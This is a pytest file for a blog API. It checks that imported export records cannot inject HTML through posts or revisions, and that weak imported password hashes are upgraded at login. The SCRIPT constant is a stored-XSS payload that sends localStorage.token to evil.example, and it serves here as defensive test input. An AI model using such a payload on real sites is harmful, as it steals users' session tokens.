"""An export file is not trusted: import makes the HTML itself (revisions' too), and takes
password hashes only at a cost this server would pay anyway."""

from __future__ import annotations

import copy
import json
from datetime import datetime

import pytest
from passlib.hash import bcrypt
from sqlalchemy import select

from blogapi.db.models import User
from blogapi.extensions import db
from blogapi.posts.markdown import render_markdown
from blogapi.timeutil import utcnow
from tests.support.accounts import PASSWORD, bearer, login
from tests.support.apps import dispose, make_app
from tests.support.cli import cli, create_user
from tests.support.posts import API

SCRIPT = '<script>fetch("https://evil.example/?" + localStorage.token)</script>'


@pytest.fixture(scope="module")
def exported() -> list[dict]:
    """An export of an admin, two seeded authors and six posts, as parsed records (made before
    the test's own app empties the database, which on PostgreSQL is the same one)."""
    source = make_app()
    try:
        runner = source.test_cli_runner()
        create_user(runner, "root", "admin")
        assert cli(runner, "seed", "--users", "2", "--posts", "6", "--seed", "3").exit_code == 0
        result = runner.invoke(args=["export", "-"])
        assert result.exit_code == 0
        return [json.loads(line) for line in result.stdout_bytes.splitlines()]
    finally:
        dispose(source)


def is_public(post: dict) -> bool:
    """Whether an exported post is published (not a draft, nor scheduled)."""
    return bool(post["published_at"]) and datetime.fromisoformat(post["published_at"]) < utcnow()


def import_records(runner, tmp_path, records: list[dict]) -> None:
    """import a file holding these records; it must succeed."""
    path = tmp_path / "blog.jsonl"
    path.write_text("".join(json.dumps(record) + "\n" for record in records))
    result = cli(runner, "import", str(path))
    assert result.exit_code == 0, result.output


def test_a_crafted_body_html_is_replaced_by_the_rendered_body(
    exported, app, client, runner, tmp_path
):
    records = copy.deepcopy(exported)
    posts = [r for r in records if r["type"] == "post" and is_public(r)]
    assert posts
    for post in posts:
        post["body_html"] = SCRIPT
    import_records(runner, tmp_path, records)

    for post in posts:
        served = client.get(f"{API}/posts/{post['slug']}").get_json()
        assert "<script" not in served["body_html"]
        assert served["body_html"] == render_markdown(post["body"])


def test_a_cheaper_hash_is_imported_and_upgraded_at_the_first_login(
    exported, app, client, runner, tmp_path
):
    records = copy.deepcopy(exported)
    root = next(r for r in records if r["type"] == "user" and r["username"] == "root")
    root["password_hash"] = bcrypt.using(rounds=4).hash(PASSWORD)  # an old, cheap bcrypt hash
    import_records(runner, tmp_path, records)

    assert login(client, "root").status_code == 200
    with app.app_context():
        stored = db.session.scalar(select(User.password_hash).where(User.username == "root"))
    assert stored.startswith("$argon2id$v=19$m=256,t=1,p=1$")  # what this server makes
    assert login(client, "root").status_code == 200


def test_a_crafted_revision_body_is_served_rendered_and_restores_safely(
    exported, app, client, runner, tmp_path
):
    records = copy.deepcopy(exported)
    post = next(r for r in records if r["type"] == "post")
    crafted = next(r for r in records if r["type"] == "revision" and r["post_id"] == post["id"])
    crafted.update(body=f"Hello.\n\n{SCRIPT}\n", tags=["C#"])
    import_records(runner, tmp_path, records)

    admin = bearer(login(client, "root").get_json()["access_token"])
    path = f"{API}/posts/{post['id']}/revisions/1"
    shown = client.get(path, headers=admin).get_json()
    assert shown["body"] == crafted["body"] and shown["tags"] == ["c-sharp"]
    assert "<script" not in shown["body_html"]
    restored = client.post(f"{path}/restore", headers=admin)
    assert restored.status_code == 200, restored.get_json()
    assert restored.get_json()["body"] == crafted["body"]
    assert "<script" not in restored.get_json()["body_html"]
    listed = client.get(f"{API}/posts/{post['id']}/revisions", headers=admin).get_json()
    assert [item["number"] for item in listed["items"]] == [2, 1]
